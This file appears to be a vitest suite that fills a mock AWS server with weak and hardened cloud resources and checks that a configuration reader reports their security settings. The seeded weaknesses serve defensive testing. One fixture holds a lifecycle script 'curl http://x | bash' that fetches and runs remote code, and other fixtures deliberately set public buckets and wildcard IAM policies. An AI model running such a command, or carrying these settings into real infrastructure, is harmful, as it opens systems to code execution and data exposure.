import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Resource } from "../../resource.ts";
import type { Value } from "../../value.ts";
import { readAws } from "./index.ts";
import { type LiveReading } from "../live/reading.ts";
import { hasMoto, motoNote, startMoto, type Moto } from "./testing/moto.ts";

/** A value as plain JSON, to compare. */
function plain(value: Value | undefined): unknown {
  if (value === undefined) return undefined;
  if (value.kind === "scalar") return value.value;
  if (value.kind === "list") return value.items.map(plain);
  if (value.kind === "map")
    return Object.fromEntries([...value.entries].map(([key, each]) => [key, plain(each)]));
  return value.kind === "unread" ? { unread: value.missing } : value.kind;
}

const open = (action: string, resource: string) => ({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Principal: "*", Action: action, Resource: resource }],
});
const trust = {
  Version: "2012-10-17",
  Statement: [
    {
      Effect: "Allow",
      Principal: { Service: "sagemaker.amazonaws.com" },
      Action: "sts:AssumeRole",
    },
  ],
};
const roleArn = "arn:aws:iam::123456789012:role/notebooks";

describe.skipIf(!hasMoto)(`an account of moto's server${motoNote}`, { timeout: 120_000 }, () => {
  let moto: Moto;
  let reading: LiveReading;
  let ids: Record<string, string>;

  beforeAll(async () => {
    moto = await startMoto();
    ids = await fill(moto);
    reading = await readAws({
      env: moto.env,
      regions: ["eu-west-1", "us-east-1"],
      pace: { tries: 1, perSecond: 1_000 },
    });
  }, 120_000);
  afterAll(() => moto?.stop());

  function all(type: string): readonly Resource[] {
    return reading.resources.filter((each) => each.type === type);
  }
  function body(type: string, has: string): Record<string, unknown> {
    const found = all(type).find(({ address }) => address.includes(has));
    return plain(found?.body) as Record<string, unknown>;
  }

  test("buckets tell who may read them, how they are kept, and where they are", () => {
    expect(body("AWS::S3::Bucket", "weak-lake")).toMatchObject({
      BucketName: "weak-lake",
      Region: "eu-west-1",
      PolicyStatus: { IsPublic: true },
      AccessControlPolicy: {
        Grants: expect.arrayContaining([
          {
            Grantee: { URI: "http://acs.amazonaws.com/groups/global/AllUsers" },
            Permission: "READ",
          },
        ]) as unknown,
      },
    });
    const weak = body("AWS::S3::Bucket", "weak-lake");
    for (const absent of ["PublicAccessBlockConfiguration", "VersioningConfiguration", "Tags"])
      expect(weak, absent).not.toHaveProperty(absent);
    expect(body("AWS::S3::BucketPolicy", "weak-lake")).toEqual({
      Bucket: "weak-lake",
      PolicyDocument: open("s3:GetObject", "arn:aws:s3:::weak-lake/*"),
    });
    expect(body("AWS::S3::Bucket", "mended-lake")).toMatchObject({
      PublicAccessBlockConfiguration: {
        BlockPublicAcls: true,
        IgnorePublicAcls: true,
        BlockPublicPolicy: true,
        RestrictPublicBuckets: true,
      },
      BucketEncryption: {
        ServerSideEncryptionConfiguration: [
          {
            ServerSideEncryptionByDefault: { SSEAlgorithm: "aws:kms", KMSMasterKeyID: ids["key"] },
            BucketKeyEnabled: true,
          },
        ],
      },
      VersioningConfiguration: { Status: "Enabled" },
      ObjectLockEnabled: true,
      ObjectLockConfiguration: { Rule: { DefaultRetention: { Mode: "COMPLIANCE", Days: 30 } } },
      OwnershipControls: { Rules: [{ ObjectOwnership: "BucketOwnerEnforced" }] },
      LifecycleConfiguration: { Rules: [{ Status: "Enabled", ExpirationInDays: 90 }] },
      Tags: [{ Key: "data", Value: "training" }],
    });
    expect(all("AWS::S3::BucketPolicy").length).toBe(1);
    expect(all("AWS::S3::Bucket").map(({ region }) => region)).toEqual(["eu-west-1", "eu-west-1"]);
  });

  test("the block of public access of the account, which is absent until it is set", async () => {
    expect(body("AWS::S3::AccountPublicAccessBlock", "123456789012")).toEqual({
      AccountId: "123456789012",
    });
  });

  test("networks tell the way to the internet", () => {
    expect(body("AWS::EC2::Subnet", ids["subnet"]!)).toMatchObject({ VpcId: ids["vpc"] });
    const routes = all("AWS::EC2::Route").map(({ body }) => plain(body));
    expect(routes).toContainEqual({
      RouteTableId: ids["routes"],
      DestinationCidrBlock: "0.0.0.0/0",
      GatewayId: ids["gateway"],
      State: "active",
    });
    expect(all("AWS::EC2::SubnetRouteTableAssociation").map(({ body }) => plain(body))).toEqual([
      { RouteTableId: ids["routes"], SubnetId: ids["subnet"] },
    ]);
    expect(all("AWS::EC2::VPCGatewayAttachment").map(({ body }) => plain(body))).toEqual([
      { InternetGatewayId: ids["gateway"], VpcId: ids["vpc"] },
    ]);
    const main = all("AWS::EC2::RouteTable").map(
      ({ body }) => plain(body) as { VpcId: string; Associations: { Main?: boolean }[] },
    );
    expect(
      main.filter(
        ({ VpcId, Associations }) => VpcId === ids["vpc"] && Associations[0]?.Main === true,
      ).length,
    ).toBe(1);
    expect(body("AWS::EC2::SecurityGroup", ids["group"]!)).toMatchObject({
      SecurityGroupIngress: [
        { IpProtocol: "tcp", FromPort: 8888, ToPort: 8888, CidrIp: "0.0.0.0/0" },
      ],
      SecurityGroupEgress: [{ IpProtocol: "-1", CidrIp: "0.0.0.0/0" }],
    });
    expect(body("AWS::EC2::VPCEndpoint", ids["endpoint"]!)).toMatchObject({
      VpcEndpointType: "Gateway",
      ServiceName: "com.amazonaws.eu-west-1.s3",
      VpcId: ids["vpc"],
      RouteTableIds: [ids["routes"]],
      PolicyDocument: open("*", "*"),
    });
    expect(body("AWS::EC2::EbsEncryptionByDefault", "eu-west-1")).toMatchObject({
      EbsEncryptionByDefault: true,
    });
    expect(body("AWS::EC2::EbsEncryptionByDefault", "us-east-1")).toMatchObject({
      EbsEncryptionByDefault: false,
    });
  });

  test("roles, people and policies come with all their documents", () => {
    expect(body("AWS::IAM::Role", "notebooks")).toMatchObject({
      RoleName: "notebooks",
      AssumeRolePolicyDocument: trust,
      ManagedPolicyArns: ["arn:aws:iam::123456789012:policy/wide"],
      Policies: [
        { PolicyName: "all", PolicyDocument: { Statement: [{ Action: "*", Resource: "*" }] } },
      ],
    });
    expect(body("AWS::IAM::ManagedPolicy", "wide")).toMatchObject({
      ManagedPolicyName: "wide",
      AttachmentCount: 1,
      PolicyDocument: { Statement: [{ Action: "sagemaker:*", Resource: "*" }] },
    });
    expect(body("AWS::IAM::User", "ada")).toMatchObject({ UserName: "ada", Groups: ["people"] });
    expect(body("AWS::IAM::Group", "people")).toMatchObject({ GroupName: "people" });
    expect(body("AWS::IAM::AccessKey", "ada")).toMatchObject({ UserName: "ada", Status: "Active" });
    expect(body("AWS::IAM::InstanceProfile", "machines")).toMatchObject({ Roles: ["notebooks"] });
    // IAM has no regions: it is asked once.
    expect(all("AWS::IAM::Role").map(({ region }) => region)).toEqual([undefined]);
  });

  test("keys tell whether they turn, and are not asked where they cannot", () => {
    expect(body("AWS::KMS::Key", ids["key"]!)).toMatchObject({
      KeySpec: "SYMMETRIC_DEFAULT",
      KeyManager: "CUSTOMER",
      EnableKeyRotation: true,
      KeyPolicy: { Statement: [{ Effect: "Allow", Action: "kms:*" }] },
    });
    expect(body("AWS::KMS::Key", ids["signing"]!)).not.toHaveProperty("EnableKeyRotation");
    expect(body("AWS::KMS::Alias", "alias/lake")).toEqual({
      AliasName: "alias/lake",
      TargetKeyId: ids["key"]!.split("/").at(-1),
    });
  });

  test("notebooks, domains, models and jobs of SageMaker", () => {
    expect(body("AWS::SageMaker::NotebookInstance", "/weak")).toMatchObject({
      NotebookInstanceName: "weak",
      InstanceType: "ml.t3.medium",
      RoleArn: roleArn,
      DirectInternetAccess: "Enabled",
      RootAccess: "Enabled",
      LifecycleConfigName: "setup",
    });
    expect(body("AWS::SageMaker::NotebookInstance", "/mended")).toMatchObject({
      DirectInternetAccess: "Disabled",
      RootAccess: "Disabled",
      SubnetId: ids["subnet"],
      SecurityGroupIds: [ids["group"]],
      KmsKeyId: ids["key"],
    });
    expect(body("AWS::SageMaker::Domain", "domain/")).toMatchObject({
      DomainName: "studio",
      AuthMode: "IAM",
      VpcId: ids["vpc"],
      SubnetIds: [ids["subnet"]],
      AppNetworkAccessType: "VpcOnly",
    });
    expect(body("AWS::SageMaker::Model", "/classifier")).toMatchObject({
      ModelName: "classifier",
      ExecutionRoleArn: roleArn,
      PrimaryContainer: { ModelDataUrl: "s3://weak-lake/model.tar.gz" },
      EnableNetworkIsolation: false,
    });
    expect(body("AWS::SageMaker::EndpointConfig", "/config")).toMatchObject({
      KmsKeyId: ids["key"],
      ProductionVariants: [{ ModelName: "classifier" }],
    });
    expect(body("AWS::SageMaker::Endpoint", "/serving")).toMatchObject({
      EndpointConfigName: "config",
    });
    expect(body("AWS::SageMaker::TrainingJob", "/weak")).toMatchObject({
      RoleArn: roleArn,
      OutputDataConfig: { S3OutputPath: "s3://weak-lake/out" },
      ResourceConfig: { InstanceCount: 2 },
      EnableInterContainerTrafficEncryption: false,
      EnableNetworkIsolation: false,
    });
    expect(body("AWS::SageMaker::TrainingJob", "/mended")).toMatchObject({
      OutputDataConfig: { KmsKeyId: ids["key"] },
      ResourceConfig: { VolumeKmsKeyId: ids["key"] },
      VpcConfig: { Subnets: [ids["subnet"]] },
      EnableInterContainerTrafficEncryption: true,
      EnableNetworkIsolation: true,
    });
    expect(body("AWS::SageMaker::ProcessingJob", "/clean")).toMatchObject({
      ProcessingJobName: "clean",
      NetworkConfig: { EnableNetworkIsolation: true },
    });
    expect(body("AWS::SageMaker::TransformJob", "/batch")).toMatchObject({
      TransformOutput: { KmsKeyId: ids["key"] },
      TransformResources: { VolumeKmsKeyId: ids["key"] },
    });
    expect(body("AWS::SageMaker::HyperParameterTuningJob", "/search")).toMatchObject({
      TrainingJobDefinition: { RoleArn: roleArn },
    });
    expect(body("AWS::SageMaker::Cluster", "cluster/")).toMatchObject({
      ClusterName: "gpu",
      VpcConfig: { Subnets: [ids["subnet"]] },
    });
    expect(body("AWS::SageMaker::ModelPackage", "/approved")).toMatchObject({
      ModelPackageGroupName: "approved",
      ModelApprovalStatus: "Approved",
      InferenceSpecification: { Containers: [{ Image: "image" }] },
    });
    expect(body("AWS::SageMaker::Pipeline", "/train")).toMatchObject({
      PipelineName: "train",
      PipelineDefinition: { PipelineDefinitionBody: { Version: "2020-12-01", Steps: [] } },
    });
    expect(body("AWS::SageMaker::ModelQualityJobDefinition", "quality")).toMatchObject({
      JobDefinitionName: "quality",
      NetworkConfig: { EnableInterContainerTrafficEncryption: true },
    });
  });

  test("images, trails, logs, secrets, functions, search and detectors", () => {
    expect(body("AWS::ECR::Repository", "repository/models")).toMatchObject({
      RepositoryName: "models",
      ImageTagMutability: "IMMUTABLE",
      ImageScanningConfiguration: { ScanOnPush: true },
      EncryptionConfiguration: { EncryptionType: "AES256" },
      RepositoryPolicyText: { Statement: [{ Principal: "*" }] },
    });
    expect(body("AWS::ECR::Repository", "repository/plain")).not.toHaveProperty(
      "RepositoryPolicyText",
    );
    expect(body("AWS::CloudTrail::Trail", "trail/audit")).toMatchObject({
      TrailName: "audit",
      S3BucketName: "mended-lake",
      IsLogging: true,
      IsMultiRegionTrail: true,
      EnableLogFileValidation: true,
      EventSelectors: [{ DataResources: [{ Type: "AWS::S3::Object" }] }],
    });
    // It is told in every region, and is one trail all the same.
    expect(all("AWS::CloudTrail::Trail").map(({ region }) => region)).toEqual(["eu-west-1"]);
    expect(body("AWS::Logs::LogGroup", "bedrock")).toMatchObject({
      LogGroupName: "/aws/bedrock",
      RetentionInDays: 30,
    });
    expect(body("AWS::SecretsManager::Secret", "token")).toMatchObject({ Name: "token" });
    expect(JSON.stringify(reading.resources.map(({ at }) => at.document.text))).not.toContain(
      "hunter2",
    );
    expect(body("AWS::OpenSearchService::Domain", "vectors")).toMatchObject({
      DomainName: "vectors",
      EncryptionAtRestOptions: { Enabled: true },
      DomainEndpointOptions: { EnforceHTTPS: true },
    });
    expect(body("AWS::GuardDuty::Detector", "detector/")).toMatchObject({ Enable: true });
    expect(body("AWS::Bedrock::ModelInvocationLoggingConfiguration", "eu-west-1")).toMatchObject({
      LoggingConfig: { S3Config: { BucketName: "mended-lake" }, TextDataDeliveryEnabled: true },
    });
    expect(body("AWS::Bedrock::ModelInvocationLoggingConfiguration", "us-east-1")).toEqual({
      Region: "us-east-1",
    });
    expect(body("AWS::Bedrock::Agent", "agent/")).toMatchObject({
      AgentName: "helper",
      AgentResourceRoleArn: roleArn,
    });
    expect(body("AWS::Bedrock::KnowledgeBase", "knowledge-base/")).toMatchObject({
      Name: "facts",
      RoleArn: roleArn,
      StorageConfiguration: { Type: "OPENSEARCH_SERVERLESS" },
    });
  });

  test("what moto does not have is a gap, with the call and what came of it", () => {
    expect(reading.gaps).toContainEqual({
      type: "AWS::SageMaker::MlflowTrackingServer",
      account: "123456789012",
      region: "eu-west-1",
      missing: "sagemaker:ListMlflowTrackingServers (500 status 500)",
    });
    const types = new Set(reading.gaps.map(({ type }) => type));
    for (const type of ["AWS::S3::Bucket", "AWS::IAM::Role", "AWS::EC2::Subnet", "AWS::KMS::Key"])
      expect(types.has(type), type).toBe(false);
  });
});

/** Weak and mended things side by side; the ids that the account gives them. */
async function fill(moto: Moto): Promise<Record<string, string>> {
  const { make, put } = moto;
  const get = (value: unknown, ...path: string[]): string =>
    String(path.reduce((each, key) => (each as Record<string, unknown>)[key], value));
  const policy = JSON.stringify;

  const key = get(await make("kms", "CreateKey"), "KeyMetadata", "Arn");
  const signing = get(
    await make("kms", "CreateKey", { KeySpec: "RSA_2048", KeyUsage: "SIGN_VERIFY" }),
    "KeyMetadata",
    "Arn",
  );
  await make("kms", "EnableKeyRotation", { KeyId: key });
  await make("kms", "CreateAlias", { AliasName: "alias/lake", TargetKeyId: key });

  const where =
    "<CreateBucketConfiguration><LocationConstraint>eu-west-1</LocationConstraint></CreateBucketConfiguration>";
  await put("weak-lake", { body: where });
  await put("weak-lake?acl", { headers: { "x-amz-acl": "public-read" } });
  await put("weak-lake?policy", { body: policy(open("s3:GetObject", "arn:aws:s3:::weak-lake/*")) });
  await put("mended-lake", {
    body: where,
    headers: { "x-amz-bucket-object-lock-enabled": "true" },
  });
  await put("mended-lake?publicAccessBlock", {
    body: "<PublicAccessBlockConfiguration><BlockPublicAcls>true</BlockPublicAcls><IgnorePublicAcls>true</IgnorePublicAcls><BlockPublicPolicy>true</BlockPublicPolicy><RestrictPublicBuckets>true</RestrictPublicBuckets></PublicAccessBlockConfiguration>",
  });
  await put("mended-lake?encryption", {
    body: `<ServerSideEncryptionConfiguration><Rule><ApplyServerSideEncryptionByDefault><SSEAlgorithm>aws:kms</SSEAlgorithm><KMSMasterKeyID>${key}</KMSMasterKeyID></ApplyServerSideEncryptionByDefault><BucketKeyEnabled>true</BucketKeyEnabled></Rule></ServerSideEncryptionConfiguration>`,
  });
  await put("mended-lake?versioning", {
    body: "<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>",
  });
  await put("mended-lake?object-lock", {
    body: "<ObjectLockConfiguration><ObjectLockEnabled>Enabled</ObjectLockEnabled><Rule><DefaultRetention><Mode>COMPLIANCE</Mode><Days>30</Days></DefaultRetention></Rule></ObjectLockConfiguration>",
  });
  await put("mended-lake?ownershipControls", {
    body: "<OwnershipControls><Rule><ObjectOwnership>BucketOwnerEnforced</ObjectOwnership></Rule></OwnershipControls>",
  });
  await put("mended-lake?lifecycle", {
    body: "<LifecycleConfiguration><Rule><ID>old</ID><Status>Enabled</Status><Filter><Prefix></Prefix></Filter><Expiration><Days>90</Days></Expiration></Rule></LifecycleConfiguration>",
  });
  await put("mended-lake?tagging", {
    body: "<Tagging><TagSet><Tag><Key>data</Key><Value>training</Value></Tag></TagSet></Tagging>",
  });

  const vpc = get(await make("ec2", "CreateVpc", { CidrBlock: "10.0.0.0/16" }), "Vpc", "VpcId");
  const subnet = get(
    await make("ec2", "CreateSubnet", { VpcId: vpc, CidrBlock: "10.0.1.0/24" }),
    "Subnet",
    "SubnetId",
  );
  const gateway = get(
    await make("ec2", "CreateInternetGateway"),
    "InternetGateway",
    "InternetGatewayId",
  );
  await make("ec2", "AttachInternetGateway", { InternetGatewayId: gateway, VpcId: vpc });
  const routes = get(
    await make("ec2", "CreateRouteTable", { VpcId: vpc }),
    "RouteTable",
    "RouteTableId",
  );
  await make("ec2", "CreateRoute", {
    RouteTableId: routes,
    DestinationCidrBlock: "0.0.0.0/0",
    GatewayId: gateway,
  });
  await make("ec2", "AssociateRouteTable", { RouteTableId: routes, SubnetId: subnet });
  const group = get(
    await make("ec2", "CreateSecurityGroup", {
      GroupName: "notebooks",
      GroupDescription: "of notebooks",
      VpcId: vpc,
    }),
    "GroupId",
  );
  await make("ec2", "AuthorizeSecurityGroupIngress", {
    GroupId: group,
    IpPermissions: [
      { IpProtocol: "tcp", FromPort: 8888, ToPort: 8888, IpRanges: [{ CidrIp: "0.0.0.0/0" }] },
    ],
  });
  const endpoint = get(
    await make("ec2", "CreateVpcEndpoint", {
      VpcId: vpc,
      ServiceName: "com.amazonaws.eu-west-1.s3",
      VpcEndpointType: "Gateway",
      RouteTableId: [routes],
      PolicyDocument: policy(open("*", "*")),
    }),
    "VpcEndpoint",
    "VpcEndpointId",
  );
  await make("ec2", "EnableEbsEncryptionByDefault");

  await make("iam", "CreateRole", {
    RoleName: "notebooks",
    AssumeRolePolicyDocument: policy(trust),
  });
  const allow = (action: string): string =>
    policy({
      Version: "2012-10-17",
      Statement: [{ Effect: "Allow", Action: action, Resource: "*" }],
    });
  await make("iam", "PutRolePolicy", {
    RoleName: "notebooks",
    PolicyName: "all",
    PolicyDocument: allow("*"),
  });
  await make("iam", "CreatePolicy", { PolicyName: "wide", PolicyDocument: allow("sagemaker:*") });
  await make("iam", "AttachRolePolicy", {
    RoleName: "notebooks",
    PolicyArn: "arn:aws:iam::123456789012:policy/wide",
  });
  await make("iam", "CreateInstanceProfile", { InstanceProfileName: "machines" });
  await make("iam", "AddRoleToInstanceProfile", {
    InstanceProfileName: "machines",
    RoleName: "notebooks",
  });
  await make("iam", "CreateUser", { UserName: "ada" });
  await make("iam", "CreateAccessKey", { UserName: "ada" });
  await make("iam", "CreateGroup", { GroupName: "people" });
  await make("iam", "AddUserToGroup", { GroupName: "people", UserName: "ada" });

  await fillSagemaker(moto, { key, subnet, group, vpc });
  await fillAround(moto);
  return { key, signing, vpc, subnet, gateway, routes, group, endpoint };
}

async function fillSagemaker(
  { make }: Moto,
  { key, subnet, group, vpc }: Record<"key" | "subnet" | "group" | "vpc", string>,
): Promise<void> {
  await make("sagemaker", "CreateNotebookInstanceLifecycleConfig", {
    NotebookInstanceLifecycleConfigName: "setup",
    OnStart: [{ Content: Buffer.from("curl http://x | bash").toString("base64") }],
  });
  const common = { InstanceType: "ml.t3.medium", RoleArn: roleArn };
  await make("sagemaker", "CreateNotebookInstance", {
    ...common,
    NotebookInstanceName: "weak",
    LifecycleConfigName: "setup",
    DirectInternetAccess: "Enabled",
    RootAccess: "Enabled",
  });
  await make("sagemaker", "CreateNotebookInstance", {
    ...common,
    NotebookInstanceName: "mended",
    SubnetId: subnet,
    SecurityGroupIds: [group],
    KmsKeyId: key,
    DirectInternetAccess: "Disabled",
    RootAccess: "Disabled",
  });
  await make("sagemaker", "CreateDomain", {
    DomainName: "studio",
    AuthMode: "IAM",
    VpcId: vpc,
    SubnetIds: [subnet],
    AppNetworkAccessType: "VpcOnly",
    DefaultUserSettings: { ExecutionRole: roleArn },
  });
  await make("sagemaker", "CreateModel", {
    ModelName: "classifier",
    ExecutionRoleArn: roleArn,
    PrimaryContainer: { Image: "image", ModelDataUrl: "s3://weak-lake/model.tar.gz" },
  });
  await make("sagemaker", "CreateEndpointConfig", {
    EndpointConfigName: "config",
    KmsKeyId: key,
    ProductionVariants: [
      {
        VariantName: "one",
        ModelName: "classifier",
        InitialInstanceCount: 1,
        InstanceType: "ml.m5.large",
      },
    ],
  });
  await make("sagemaker", "CreateEndpoint", {
    EndpointName: "serving",
    EndpointConfigName: "config",
  });
  const job = {
    AlgorithmSpecification: { TrainingImage: "image", TrainingInputMode: "File" },
    RoleArn: roleArn,
    StoppingCondition: { MaxRuntimeInSeconds: 60 },
  };
  const machine = { InstanceType: "ml.m5.large", InstanceCount: 2, VolumeSizeInGB: 10 };
  await make("sagemaker", "CreateTrainingJob", {
    ...job,
    TrainingJobName: "weak",
    OutputDataConfig: { S3OutputPath: "s3://weak-lake/out" },
    ResourceConfig: machine,
  });
  await make("sagemaker", "CreateTrainingJob", {
    ...job,
    TrainingJobName: "mended",
    OutputDataConfig: { S3OutputPath: "s3://mended-lake/out", KmsKeyId: key },
    ResourceConfig: { ...machine, VolumeKmsKeyId: key },
    VpcConfig: { Subnets: [subnet], SecurityGroupIds: [group] },
    EnableInterContainerTrafficEncryption: true,
    EnableNetworkIsolation: true,
  });
  await make("sagemaker", "CreateProcessingJob", {
    ProcessingJobName: "clean",
    RoleArn: roleArn,
    AppSpecification: { ImageUri: "image" },
    NetworkConfig: { EnableNetworkIsolation: true },
    ProcessingResources: {
      ClusterConfig: { InstanceCount: 1, InstanceType: "ml.m5.large", VolumeSizeInGB: 10 },
    },
  });
  await make("sagemaker", "CreateTransformJob", {
    TransformJobName: "batch",
    ModelName: "classifier",
    TransformInput: {
      DataSource: { S3DataSource: { S3DataType: "S3Prefix", S3Uri: "s3://weak-lake/in" } },
    },
    TransformOutput: { S3OutputPath: "s3://weak-lake/out", KmsKeyId: key },
    TransformResources: { InstanceType: "ml.m5.large", InstanceCount: 1, VolumeKmsKeyId: key },
  });
  await make("sagemaker", "CreateHyperParameterTuningJob", {
    HyperParameterTuningJobName: "search",
    HyperParameterTuningJobConfig: {
      Strategy: "Random",
      ResourceLimits: { MaxParallelTrainingJobs: 1 },
    },
    TrainingJobDefinition: { ...job, OutputDataConfig: { S3OutputPath: "s3://weak-lake/out" } },
  });
  await make("sagemaker", "CreateCluster", {
    ClusterName: "gpu",
    InstanceGroups: [
      {
        InstanceGroupName: "workers",
        InstanceType: "ml.p5.48xlarge",
        ThreadsPerCore: 1,
        InstanceCount: 1,
        ExecutionRole: roleArn,
        LifeCycleConfig: { SourceS3Uri: "s3://sagemaker-scripts/", OnCreate: "on_create.sh" },
      },
    ],
    VpcConfig: { SecurityGroupIds: [group], Subnets: [subnet] },
  });
  await make("sagemaker", "CreateModelPackageGroup", {
    ModelPackageGroupName: "approved",
    ModelPackageGroupDescription: "models that may be served",
  });
  await make("sagemaker", "CreateModelPackage", {
    ModelPackageGroupName: "approved",
    ModelPackageDescription: "one of them",
    ModelApprovalStatus: "Approved",
    InferenceSpecification: {
      Containers: [{ Image: "image" }],
      SupportedContentTypes: ["text/csv"],
      SupportedResponseMIMETypes: ["text/csv"],
    },
  });
  await make("sagemaker", "CreatePipeline", {
    PipelineName: "train",
    RoleArn: roleArn,
    ClientRequestToken: "0123456789012345678901234567890123",
    PipelineDefinition: JSON.stringify({ Version: "2020-12-01", Steps: [] }),
  });
  await make("sagemaker", "CreateModelQualityJobDefinition", {
    JobDefinitionName: "quality",
    RoleArn: roleArn,
    ModelQualityAppSpecification: { ImageUri: "image" },
    ModelQualityJobInput: {
      EndpointInput: { EndpointName: "serving", LocalPath: "/in" },
      GroundTruthS3Input: { S3Uri: "s3://mended-lake/truth" },
    },
    StoppingCondition: { MaxRuntimeInSeconds: 60 },
    ModelQualityJobOutputConfig: { MonitoringOutputs: [] },
    JobResources: {
      ClusterConfig: { InstanceCount: 1, InstanceType: "ml.m5.large", VolumeSizeInGB: 10 },
    },
    NetworkConfig: { EnableInterContainerTrafficEncryption: true },
  });
}

async function fillAround({ make }: Moto): Promise<void> {
  await make("ecr", "CreateRepository", {
    repositoryName: "models",
    imageTagMutability: "IMMUTABLE",
    imageScanningConfiguration: { scanOnPush: true },
  });
  await make("ecr", "SetRepositoryPolicy", {
    repositoryName: "models",
    policyText: JSON.stringify({
      Version: "2012-10-17",
      Statement: [{ Sid: "pull", Effect: "Allow", Principal: "*", Action: "ecr:BatchGetImage" }],
    }),
  });
  await make("ecr", "CreateRepository", { repositoryName: "plain" });
  await make("cloudtrail", "CreateTrail", {
    Name: "audit",
    S3BucketName: "mended-lake",
    IsMultiRegionTrail: true,
    EnableLogFileValidation: true,
  });
  await make("cloudtrail", "StartLogging", { Name: "audit" });
  await make("cloudtrail", "PutEventSelectors", {
    TrailName: "audit",
    EventSelectors: [
      {
        ReadWriteType: "All",
        IncludeManagementEvents: true,
        DataResources: [{ Type: "AWS::S3::Object", Values: ["arn:aws:s3"] }],
      },
    ],
  });
  await make("logs", "CreateLogGroup", { logGroupName: "/aws/bedrock" });
  await make("logs", "PutRetentionPolicy", { logGroupName: "/aws/bedrock", retentionInDays: 30 });
  await make("secretsmanager", "CreateSecret", {
    Name: "token",
    SecretString: "hunter2",
    ClientRequestToken: "01234567890123456789012345678901",
  });
  await make("opensearch", "CreateDomain", {
    http: "POST /2021-01-01/opensearch/domain",
    DomainName: "vectors",
    EncryptionAtRestOptions: { Enabled: true },
    DomainEndpointOptions: { EnforceHTTPS: true },
  });
  await make("guardduty", "CreateDetector", { http: "POST /detector", enable: true });
  await make("bedrock", "PutModelInvocationLoggingConfiguration", {
    http: "PUT /logging/modelinvocations",
    loggingConfig: { s3Config: { bucketName: "mended-lake" }, textDataDeliveryEnabled: true },
  });
  await make("bedrock-agent", "CreateAgent", {
    http: "PUT /agents/",
    agentName: "helper",
    agentResourceRoleArn: roleArn,
  });
  await make("bedrock-agent", "CreateKnowledgeBase", {
    http: "PUT /knowledgebases/",
    name: "facts",
    roleArn,
    knowledgeBaseConfiguration: { type: "VECTOR" },
    storageConfiguration: { type: "OPENSEARCH_SERVERLESS" },
  });
}
